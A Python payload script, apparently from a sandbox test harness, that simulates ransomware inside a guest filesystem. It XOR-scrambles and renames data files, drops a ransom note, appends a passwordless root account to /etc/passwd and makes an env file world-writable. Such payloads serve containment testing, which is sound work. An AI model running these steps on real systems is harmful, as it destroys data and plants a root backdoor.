"""Ransomware-style tampering with the guest filesystem."""

import os

from plugcell.harness.payloads._common import attempt, hold, in_guest


def encrypt(path):
    with open(path, "r+b") as f:
        data = f.read()
        f.seek(0)
        f.write(bytes(b ^ 0x5A for b in data))
    os.rename(path, path + ".locked")


def note():
    with open(in_guest("/srv/data/README_RANSOM.txt"), "w") as f:
        f.write("your files are encrypted\n")


if __name__ == "__main__":
    data = in_guest("/srv/data")
    try:
        names = sorted(os.listdir(data))
    except OSError:
        names = []
    for name in names:
        attempt("encrypt", encrypt, os.path.join(data, name), file=name)
    attempt("ransom-note", note)
    attempt("passwd", lambda: open(in_guest("/etc/passwd"), "a").write("evil::0:0::/:/bin/sh\n"))
    attempt("chmod", os.chmod, in_guest("/srv/app/app.env"), 0o777)
    hold(1)
